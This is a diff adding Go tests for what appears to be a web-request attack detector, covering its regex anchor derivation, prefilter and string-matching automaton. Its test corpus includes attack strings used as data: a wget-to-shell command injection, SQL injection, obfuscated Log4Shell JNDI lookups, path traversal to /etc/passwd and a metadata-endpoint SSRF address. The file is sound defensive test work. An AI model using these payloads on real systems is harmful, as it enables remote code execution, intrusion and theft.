@@ -1,0 +1,194 @@
+package detect
+
+import (
+	"math/rand/v2"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+func TestDeriveAnchors(t *testing.T) {
+	tests := []struct {
+		pattern string
+		want    []string
+		err     string
+	}{
+		{pattern: `abc`, want: []string{"abc"}},
+		{pattern: `ab|ac|a`, want: []string{"a"}},
+		{pattern: `\$\{\s*x`, want: []string{"${\t", "${\n", "${\f", "${\r", "${ ", "${x"}},
+		{pattern: `a[bc]d`, want: []string{"abd", "acd"}},
+		{pattern: `a(?:b|c)?`, want: []string{"a"}},
+		{pattern: `ab+c`, want: []string{"ab"}},
+		{pattern: `ab{2}c`, want: []string{"abbc"}},
+		{pattern: `x\bfoo$`, want: []string{"xfoo"}},
+		{pattern: `(?i)ok`, want: []string{"ok", "o\u212a"}}, // the Kelvin sign folds to k
+		{pattern: `(?i)sk`, want: []string{"sk", "s\u212a", "\u017fk", "\u017f\u212a"}},
+		{pattern: `a.*b`, want: []string{"a"}},
+		{pattern: `.*b`, err: "can start with anything"},
+		{pattern: `[^}]+`, err: "can start with anything"},
+		{pattern: `\w`, err: "can start with anything"},
+		{pattern: `a|.`, err: "can start with anything"},
+		{pattern: `x?`, err: "or be empty"},
+		{pattern: `Ab`, err: "upper-case"},
+		{pattern: `(`, err: "missing closing )"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.pattern, func(t *testing.T) {
+			got, err := deriveAnchors(tt.pattern)
+			if tt.err != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.err) {
+					t.Fatalf("deriveAnchors(%q) = %q, %v, want error %q", tt.pattern, got, err, tt.err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			slices.Sort(tt.want)
+			if diff := cmp.Diff(got, tt.want); diff != "" {
+				t.Errorf("deriveAnchors(%q) (-got +want):\n%s", tt.pattern, diff)
+			}
+		})
+	}
+}
+
+// TestAnchorsCover checks, for every positive rule case, that the
+// matched text starts with one of the rule's anchors: the prefilter
+// passes every attack the rule tests hold.
+func TestAnchorsCover(t *testing.T) {
+	rules := mustRules(t)
+	for _, tt := range ruleCases {
+		if tt.want == "" {
+			continue
+		}
+		i := slices.IndexFunc(rules.rules, func(c *compiled) bool { return c.ID == tt.want })
+		c := rules.rules[i]
+		d := decode(tt.value, tt.field == string(FieldURLQuery))
+		loc := regexp.MustCompile(c.Pattern).FindStringIndex(d)
+		if loc == nil {
+			t.Errorf("%s: %s does not match %q", tt.name, c.ID, d)
+			continue
+		}
+		if !slices.ContainsFunc(c.anchors, func(a string) bool { return strings.HasPrefix(d[loc[0]:], a) }) {
+			t.Errorf("%s: the match %q of %s starts with none of its anchors %q", tt.name, d[loc[0]:loc[1]], c.ID, c.anchors)
+		}
+	}
+}
+
+// corpus returns the values of the rule cases, benign and attack values
+// of each class, and random splices of them.
+func corpus() []string {
+	var vs []string
+	for _, tt := range ruleCases {
+		vs = append(vs, tt.value)
+	}
+	vs = append(vs,
+		"/api/v1/orders/8f14e45f-ceea-467f-a0e6-1c0a3f1d2b3c/items", "currency=EUR&ref=home_page&utm_source=news%20letter",
+		"text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig",
+		"SELECT o.id, o.total FROM orders o JOIN users u ON u.id = o.user_id WHERE u.email = $1 LIMIT 50",
+		"q=it's a test; isn't it | or not && then", "name=O'Reilly&t=T(x)&x=t (y)", "a=${x}&b=#{y}&c={{z}}&d=<%w%>",
+		"id=1%27%20or%20%27a%27%3D%27a", "x=%25%32%34%25%37%42jndi:ldap://x/}", "q=1 UNION/**/ALL/**/SELECT 1,2",
+		"f=....//....//etc/passwd", "c=;wget http://x.example/a.sh|sh", "h=%0aid%0a", "u=http://0xa9fea9fe/latest",
+		"q=sleep (5)", "q=benchmark(10,md5(1))", "{% include 'x' %}", "#set($x=1)", "T ( java.lang.Runtime )",
+		"%uFF0E%u002e/%u002e%u002e/", "..%c0%af..%c1%9c..%e0%80%ae", "ua ${::-j}${lower:n}di:${upper:l}dap",
+	)
+	rnd := rand.New(rand.NewPCG(1, 2))
+	base := len(vs)
+	for range 3000 {
+		var b strings.Builder
+		for range 1 + rnd.IntN(4) {
+			v := vs[rnd.IntN(base)]
+			i := rnd.IntN(len(v) + 1)
+			j := i + rnd.IntN(len(v)-i+1)
+			b.WriteString(v[i:j])
+			if rnd.IntN(3) == 0 {
+				b.WriteString([]string{" ", "\t", "%20", "+", ";", "'", "(", "${", "%"}[rnd.IntN(9)])
+			}
+		}
+		vs = append(vs, b.String())
+	}
+	return vs
+}
+
+// TestPrefilterEquivalence checks that Scan, which tries a pattern only
+// where its anchors occur, reports what an unanchored search of every
+// rule over every decoded value reports: the same rules with the same
+// matches.
+func TestPrefilterEquivalence(t *testing.T) {
+	rules := mustRules(t)
+	unanchored := unanchoredPatterns(rules)
+	for _, v := range corpus() {
+		for _, f := range fields {
+			checkEquivalent(t, rules, unanchored, f, v)
+		}
+	}
+}
+
+// unanchoredPatterns compiles the rules' patterns as they are, by rule
+// index.
+func unanchoredPatterns(rules *Rules) []*regexp.Regexp {
+	out := make([]*regexp.Regexp, len(rules.rules))
+	for i, c := range rules.rules {
+		out[i] = regexp.MustCompile(c.Pattern)
+	}
+	return out
+}
+
+// checkEquivalent compares Scan with the unfiltered path on one value.
+func checkEquivalent(t testing.TB, rules *Rules, unanchored []*regexp.Regexp, f Field, v string) {
+	t.Helper()
+	name := string(f)
+	if f == FieldRequestHeader {
+		name += ".x-test"
+	}
+	sp := spanWith(name, v)
+	got := map[string]string{}
+	rules.Scan(&sp, func(h Hit) { got[h.Rule.ID] = h.Match })
+	want := map[string]string{}
+	d := decode(v, f == FieldURLQuery)
+	for i, c := range rules.rules {
+		if c.fields&f.bit() == 0 {
+			continue
+		}
+		if loc := unanchored[i].FindStringIndex(d); loc != nil {
+			want[c.ID] = d[loc[0]:loc[1]]
+		}
+	}
+	if diff := cmp.Diff(got, want); diff != "" {
+		t.Errorf("%s=%q (decoded %q): prefiltered vs unfiltered (-got +want):\n%s", name, v, d, diff)
+	}
+}
+
+func TestAutomaton(t *testing.T) {
+	pats := []string{"he", "she", "his", "hers", "s", "a;", ";", "${jndi:"}
+	ac := newAutomaton(pats)
+	rnd := rand.New(rand.NewPCG(3, 4))
+	for range 2000 {
+		b := make([]byte, rnd.IntN(40))
+		for i := range b {
+			b[i] = "hesirHESIR;a${jndi:"[rnd.IntN(19)]
+		}
+		s := string(b)
+		var want []occurrence
+		lower := strings.ToLower(s)
+		for end := 1; end <= len(s); end++ {
+			for id, p := range pats {
+				if strings.HasSuffix(lower[:end], p) {
+					want = append(want, occurrence{start: int32(end - len(p)), pat: int32(id)})
+				}
+			}
+		}
+		got := find(ac, s, nil)
+		sortOcc := func(o []occurrence) {
+			slices.SortFunc(o, func(a, b occurrence) int { return int(a.start+a.pat*1000) - int(b.start+b.pat*1000) })
+		}
+		sortOcc(got)
+		sortOcc(want)
+		if diff := cmp.Diff(got, want, cmp.AllowUnexported(occurrence{})); diff != "" {
+			t.Fatalf("find(%q) (-got +want):\n%s", s, diff)
+		}
+	}
+}
